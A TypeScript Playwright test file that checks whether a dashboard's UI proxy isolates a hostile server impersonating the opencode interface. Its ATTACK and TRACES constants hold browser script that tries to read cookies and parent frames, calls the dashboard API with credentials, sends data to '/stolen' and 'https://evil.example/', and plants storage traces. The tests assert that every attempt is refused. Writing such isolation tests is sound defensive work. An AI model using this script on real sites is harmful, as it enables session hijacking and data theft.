import type { IncomingMessage } from 'node:http';

import { startHttpServer } from '@optio-ts/testkit';
import type { HttpServer } from '@optio-ts/testkit';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { openBrowser } from '../testing/open-browser.ts';
import { startDashboard } from '../testing/start-dashboard.ts';
import type { TestDashboard } from '../testing/start-dashboard.ts';
import { openUiProxy } from '../ui-proxy/open-ui-proxy.ts';
import type { UiProxy } from '../ui-proxy/open-ui-proxy.ts';
import { newSessionView } from './session-view.ts';

const SESSION = '65a1b2c3d4e5f60718293a4b';
const password = 'of-the-server-that-was-replaced';

/** Leaves what it can in the browser. */
const TRACES = `document.cookie = 'evil=1; path=/; max-age=99999';
localStorage.setItem('evil', '1');
sessionStorage.setItem('evil', '1');
await new Promise((resolve) => { indexedDB.open('evil').onsuccess = resolve; });
await caches.open('evil');
`;

/** Leaves what it can in the browser, tries what it can reach, and says how that went. */
const ATTACK = (
  dashboard: string,
  other: string,
): string => `<!doctype html><title>x</title><body><script type="module">
const said = {};
const attempt = async (name, action) => {
  try { said[name] = await action(); } catch (error) { said[name] = 'refused: ' + error.name; }
};
const get = (url, options) => fetch(url, { credentials: 'include', ...options }).then((answer) => answer.text());
await attempt('parent', () => parent.location.href);
await attempt('parent document', () => parent.document.title);
await attempt('parent storage', () => parent.sessionStorage.length);
await attempt('cookie', () => document.cookie);
await attempt('referrer', () => document.referrer);
await attempt('dashboard', () => get('${dashboard}/api/hosts'));
await attempt('dashboard blind', () => get('${dashboard}/api/hosts', { mode: 'no-cors' }));
await attempt('other', () => get('${other}/stolen'));
await attempt('other blind', () => get('${other}/stolen', { mode: 'no-cors', method: 'POST', body: 'x' }));
await attempt('elsewhere', () => get('https://evil.example/'));
await attempt('socket', () => new Promise((resolve, reject) => {
  const socket = new WebSocket('${other.replace('http', 'ws')}/stolen');
  socket.onopen = () => resolve('open');
  socket.onerror = () => reject(new DOMException('', 'SocketError'));
}));
await attempt('worker', () => navigator.serviceWorker.register('/worker.js').then(() => 'registered'));
await attempt('leave', () => get('/__optio/leave').then((text) => text.includes('Closed') ? 'all cookies are gone' : Promise.reject(new Error(text))));
await attempt('window', () => String(open('https://evil.example/')));
await attempt('top', () => { top.location = 'https://evil.example/'; return 'led away'; });
${TRACES}for (const tag of ['img', 'iframe']) {
  const element = document.createElement(tag);
  element.src = '${other}/stolen';
  document.body.append(element);
}
const form = document.createElement('form');
form.action = '${other}/stolen';
form.method = 'post';
document.body.append(form);
const text = document.createElement('pre');
text.id = 'said';
text.textContent = JSON.stringify(said);
document.body.append(text);
form.submit();
</script>`;

const LEAVE_TRACES = `<!doctype html><body><script type="module">
${TRACES}document.body.append('left');
</script>`;

/** Says what is left in the browser. */
const LOOK = `<!doctype html><body><script type="module">
const left = {
  cookie: document.cookie,
  local: Object.keys(localStorage),
  session: Object.keys(sessionStorage),
  databases: (await indexedDB.databases()).map(({ name }) => name),
  caches: await caches.keys(),
  workers: (await navigator.serviceWorker.getRegistrations().catch(() => [])).length,
};
const text = document.createElement('pre');
text.id = 'left';
text.textContent = JSON.stringify(left);
document.body.append(text);
</script>`;

const NOTHING = { cookie: '', local: [], session: [], databases: [], caches: [], workers: 0 };

interface Place {
  readonly server: HttpServer;
  readonly proxy: UiProxy;
  readonly origin: string;
}

let browser: Browser | undefined;
let missing: string | undefined;
let set: TestDashboard;
let hostile: Place;
let other: Place;
/** What the hostile server shows in the dashboard. */
let shown = '/';

async function openPlace(answer: (request: IncomingMessage) => string): Promise<Place> {
  const server = await startHttpServer((request, response) => {
    const isScript = request.url?.endsWith('.js') === true;
    response.setHeader('Content-Type', isScript ? 'text/javascript' : 'text/html');
    response.setHeader('Set-Cookie', 'evil-of-server=1; Max-Age=99999');
    response.setHeader('Service-Worker-Allowed', '/');
    response.end(answer(request));
  });
  const { port } = server;
  const embedder = `http://127.0.0.1:${set.dashboard.port}`;
  const proxy = await openUiProxy({ upstream: () => ({ port, username: 'opencode', password }), embedder });
  return { server, proxy, origin: `http://127.0.0.1:${proxy.port}` };
}

beforeAll(async () => {
  ({ browser, reason: missing } = await openBrowser());
  set = await startDashboard();
  other = await openPlace(() => 'the other session');
  hostile = await openPlace(({ url }) => {
    if (url === '/look') return LOOK;
    return url === '/traces' ? LEAVE_TRACES : ATTACK(`http://127.0.0.1:${set.dashboard.port}`, other.origin);
  });
});
afterAll(async () => {
  await browser?.close();
  for (const { proxy, server } of [hostile, other]) {
    await proxy[Symbol.asyncDispose]();
    await server[Symbol.asyncDispose]();
  }
  await set[Symbol.asyncDispose]();
});

/** What a visit to a proxy's page finds in the browser. */
async function lookAt(page: Page): Promise<unknown> {
  await page.goto(`${hostile.origin}${hostile.proxy.enter('/look')}`);
  return JSON.parse((await page.locator('#left').textContent()) ?? '') as unknown;
}

/** The dashboard at the interface of a session whose server is the hostile one. */
async function openInterface(context: BrowserContext): Promise<Page> {
  const page = await context.newPage();
  // The session is none of this process, and its server is what the agent has put there; all else is as it is.
  await page.route('**/api/sessions/*/interface', (route) =>
    route.fulfill({
      json: {
        enter: `${hostile.origin}${hostile.proxy.enter(shown)}`,
        leave: `${hostile.origin}${hostile.proxy.exit}`,
      },
    }),
  );
  await page.route('**/api/sessions/*/attend/*', (route) => route.fulfill({ json: {} }));
  await page.goto(set.dashboard.url);
  const view = newSessionView({ id: SESSION, taskId: 'hostile', host: 'local', outputDirectory: '/out', at: 1 });
  set.dashboard.board.set({ ...view, detail: { ...view.detail, state: 'live', hasInterface: true } });
  await page.getByRole('link', { name: 'hostile' }).click();
  await page.getByRole('link', { name: 'Open opencode' }).click();
  return page;
}

describe('a hostile server in the place of opencode', { timeout: 120_000 }, () => {
  it('learns no token, reaches no other session, and keeps nothing in the browser', async (test) => {
    if (browser === undefined) return test.skip(`needs ${missing}`);
    const context = await browser.newContext();
    // The browser has been at the other session, and holds its cookie.
    const visit = await context.newPage();
    await visit.goto(`${other.origin}${other.proxy.enter('/')}`);
    await visit.getByText('the other session').waitFor();
    await visit.close();

    const page = await openInterface(context);
    const said = await page.frameLocator('iframe').locator('#said').textContent();
    const results = JSON.parse(said ?? '') as Record<string, string>;
    const { cookie, referrer, window: opened, ...attempts } = results;
    expect({ cookie, referrer, opened }).toEqual({
      cookie: '',
      referrer: expect.not.stringMatching(/token/),
      opened: 'null',
    });
    expect(Object.entries(attempts).filter(([, result]) => !result.startsWith('refused: '))).toEqual([]);
    // It led nobody away, and the dashboard works on.
    expect(page.url()).toContain(`/#/session/${SESSION}/interface`);

    expect(other.server.requests.map(({ url }) => url).filter((url) => url !== '/favicon.ico')).toEqual(['/']);
    const heard = hostile.server.requests.map(({ headers, url }) => JSON.stringify({ url, headers })).join('\n');
    expect(heard).not.toContain(set.token);
    expect(heard).not.toMatch(/cookie|referer/i);

    shown = '/look';
    await page.getByRole('link', { name: 'Back to the session' }).click();
    await page.getByRole('heading', { name: 'Details' }).waitFor();
    // Neither a later visit in the dashboard finds anything, nor one outside of it.
    await page.getByRole('link', { name: 'Open opencode' }).click();
    expect(JSON.parse((await page.frameLocator('iframe').locator('#left').textContent()) ?? '')).toEqual(NOTHING);
    await page.getByRole('button', { name: 'Close and forget' }).click();
    await page.frameLocator('iframe').getByText('Closed.').waitFor();
    expect(await lookAt(page)).toEqual(NOTHING);
    await context.close();
  });

  it('is forgotten by a browser that knows no frames without credentials', async (test) => {
    if (browser === undefined) return test.skip(`needs ${missing}`);
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${hostile.origin}${hostile.proxy.enter('/traces')}`);
    await page.getByText('left').waitFor();
    await page.goto(`${hostile.origin}${hostile.proxy.exit}`);
    await expect.poll(() => page.locator('body').textContent()).toContain('Closed.');
    expect(await lookAt(page)).toEqual(NOTHING);
    await context.close();
  });
});
